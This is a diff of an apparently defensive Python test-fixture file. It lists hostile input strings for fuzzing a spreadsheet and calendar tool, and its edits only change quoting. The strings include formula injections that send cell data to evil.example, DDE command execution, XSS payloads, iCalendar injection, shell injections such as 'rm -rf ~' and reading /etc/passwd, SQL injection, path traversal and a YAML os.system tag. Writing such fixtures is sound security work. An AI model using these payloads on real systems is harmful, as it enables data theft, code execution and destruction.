@@ -7,9 +7,9 @@ FORMULAS: tuple[CellValue, ...] = (
     "\u200b=1+1", "\ufeff=1+1", "\x00=1+1", "'=1+1", "''=1+1", '"=1+1"', "＝1+1", "﹦1+1", "==1", "=", "+", "@", "=-",
     '=HYPERLINK("https://evil.example/?"&A1,"click")', '=IMPORTXML("https://evil.example","//a")',
     '=IMPORTDATA("https://evil.example/"&B2)', '=IMAGE("https://evil.example/x.png?"&A2)', '=WEBSERVICE("http://x.example")',
-    '=IMPORTRANGE("key","Sessions!A1")', "=cmd|'/C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"a\")", "+cmd|' /C notepad'!A1",
-    "@IMPORTFEED(\"https://evil.example\")", "=INDIRECT(\"R1C1\",FALSE)", "=ARRAYFORMULA(A1:A9)", "=QUERY(A:Z)",
-    "=EXEC(\"id\")", "=CALL(\"kernel32\",\"WinExec\")", "=1/0", "=NA()", "=NOW()", "=RAND()", "=LET(x,1,x)",
+    '=IMPORTRANGE("key","Sessions!A1")', "=cmd|'/C calc'!A0", '=DDE("cmd";"/C calc";"a")', "+cmd|' /C notepad'!A1",
+    '@IMPORTFEED("https://evil.example")', '=INDIRECT("R1C1",FALSE)', "=ARRAYFORMULA(A1:A9)", "=QUERY(A:Z)",
+    '=EXEC("id")', '=CALL("kernel32","WinExec")', "=1/0", "=NA()", "=NOW()", "=RAND()", "=LET(x,1,x)",
     "=LAMBDA(x,x)(1)", "{=1+1}", "=1+1;=2+2", "A1", "R1C1", "$A$1", "Sessions!A1", "#REF!", "#N/A", "#NAME?", "#VALUE!",
     "#DIV/0!", "#NUM!", "#NULL!", "#ERROR!", "#SPILL!", "#REF", "Loading...", "loading…", "#", "##########",
     Unreadable("#REF!"), Unreadable("#N/A"), Unreadable("Loading..."), Unreadable("=NOW()"), Unreadable(""),
@@ -31,7 +31,7 @@ MARKUP: tuple[CellValue, ...] = (
     "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
     "<br>", "<br/><br/>", "<p>", "</td></tr></table>", "<!-- open", "-->", "<!DOCTYPE x [<!ENTITY a 'b'>]>", "<![CDATA[",
     "]]>", "<?xml version='1.0'?>", "<iframe src=https://evil.example>", "<style>*{display:none}</style>", "<", ">",
-    "<<<>>>", "<3", "a<b>c", "'\"><b>", "\" onmouseover=\"x", "<a", "< b >", "<\x00b>", "＜b＞", "<meta http-equiv=refresh>",
+    "<<<>>>", "<3", "a<b>c", "'\"><b>", '" onmouseover="x', "<a", "< b >", "<\x00b>", "＜b＞", "<meta http-equiv=refresh>",
     "[link](https://evil.example)", "![i](https://evil.example/i.png)", "**bold**", "_it_", "`code`", "# Title", "> quote",
     "* item", "---", "| a | b |", "~~gone~~",
     # a chat's own marks
@@ -50,17 +50,17 @@ LINES: tuple[CellValue, ...] = (
     "Content-Type: text/html", "--boundary--", "From me", ">From me",
     # for iCalendar
     "END:VEVENT", "x\nEND:VEVENT\nBEGIN:VEVENT", "x\r\nATTENDEE:mailto:all@example.net", "x\\nATTENDEE:mailto:y",
-    "BEGIN:VALARM\nTRIGGER:-PT0M", "RRULE:FREQ=SECONDLY", "x;y,z:w", "\\;\\,\\n\\N", "a:b;c=d", '"quoted"', "CN=\"x\"",
+    "BEGIN:VALARM\nTRIGGER:-PT0M", "RRULE:FREQ=SECONDLY", "x;y,z:w", "\\;\\,\\n\\N", "a:b;c=d", '"quoted"', 'CN="x"',
     "x\r\n y", "x\n\ty", "^n^'^^", "METHOD:CANCEL", "SEQUENCE:99999", "UID:other@cowork-sheets", "DTSTART:20270504T170000",
     # for our own marks
     "— cowork keeps this part up to date —", "— write notes of your own below this line —",
     "— COWORK keeps  this part up to date —\nx\n— write notes of your own below this line —", "X-COWORK-MARK:{}",
     "Scheduled", "Needs attention", "Done", "Called off", "Ref", "PAUSE", "Last checked", "Read me",
     # for shells, queries, files
-    "; rm -rf ~", "| cat /etc/passwd", "&& id", "> /dev/null", "$(touch x)", "`touch x`", "' OR 1=1 --", "\"; DROP TABLE x",
+    "; rm -rf ~", "| cat /etc/passwd", "&& id", "> /dev/null", "$(touch x)", "`touch x`", "' OR 1=1 --", '"; DROP TABLE x',
     "1; SELECT pg_sleep(9)", "*/*", "..", "../..", "../../../../etc/passwd", "..\\..\\x", "/dev/zero", "C:\\con\\con", "CON",
     "NUL", "aux.txt", "~root", "file\x00.ics", "a/b/c", "con:", "-rf", "--help", "--plan", "%2e%2e%2f", "....//....//",
-    "{\"a\": 1}", "[1, 2", "{\"__proto__\": {}}", "!!python/object:os.system", "- yaml: [", "a = 1 # toml", "\"\"\"", "'''",
+    '{"a": 1}', "[1, 2", '{"__proto__": {}}', "!!python/object:os.system", "- yaml: [", "a = 1 # toml", '"""', "'''",
     "<plist>", "null", "nil", "undefined", "NaN", "Infinity", "-Infinity", "0x41", "1e5", "1_000", "00", "-0", "1,000.00",
     "1.000,00", "١٢٣", "Ⅷ", "0b1", "1/0", "9" * 40, "TypeError: x", "Traceback (most recent call last):",
 )  # fmt: skip
